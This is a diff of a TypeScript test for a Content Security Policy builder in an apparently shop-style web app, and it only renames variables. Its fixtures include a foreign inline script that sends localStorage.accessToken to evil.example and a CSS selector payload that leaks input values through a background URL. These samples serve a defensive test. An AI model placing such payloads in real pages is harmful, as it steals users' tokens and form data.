@@ -4,31 +4,31 @@ import { noOrigins } from "../../kernel/payment-origins.ts";
 import { ownInlineOf, policyFor } from "./content-security-policy.server.ts";
 import { cutPage } from "./rendered-page.ts";
 
-const own = "document.documentElement.dataset.theme = 'dark'";
+const ownScript = "document.documentElement.dataset.theme = 'dark'";
 const foreign = "fetch('https://evil.example/' + localStorage.accessToken)";
 const ownStyle = "body{color:#111}";
 const foreignStyle = "input[value^=a]{background:url(https://evil.example/a)}";
 const origins = { images: ["https://pictures.example"], payment: noOrigins };
-const page = `<html><style id="theme">${ownStyle}</style><style>${foreignStyle}</style><script>${own}</script><script>${foreign}</script><script src="/a.js"></script></html>`;
+const page = `<html><style id="theme">${ownStyle}</style><style>${foreignStyle}</style><script>${ownScript}</script><script>${foreign}</script><script src="/a.js"></script></html>`;
 
 function hashOf(script: string): string {
 	return `'sha256-${createHash("sha256").update(script).digest("base64")}'`;
 }
 
-const ownInline = ownInlineOf(cutPage(`<script>${own}</script>`), ownStyle);
+const ownInline = ownInlineOf(cutPage(`<script>${ownScript}</script>`), ownStyle);
 
 function directive(name: string, html = page): string[] {
 	const policy = policyFor(cutPage(html), ownInline, origins).split("; ");
 	return (
 		policy
-			.find((one) => one.startsWith(`${name} `))
+			.find((entry) => entry.startsWith(`${name} `))
 			?.split(" ")
 			.slice(1) ?? []
 	);
 }
 
 test("only the shop's own inline scripts and style count, by their hashes", () => {
-	expect(directive("script-src")).toEqual(["'self'", hashOf(own)]);
+	expect(directive("script-src")).toEqual(["'self'", hashOf(ownScript)]);
 	expect(directive("style-src")).toEqual(["'self'", hashOf(ownStyle)]);
 });
 
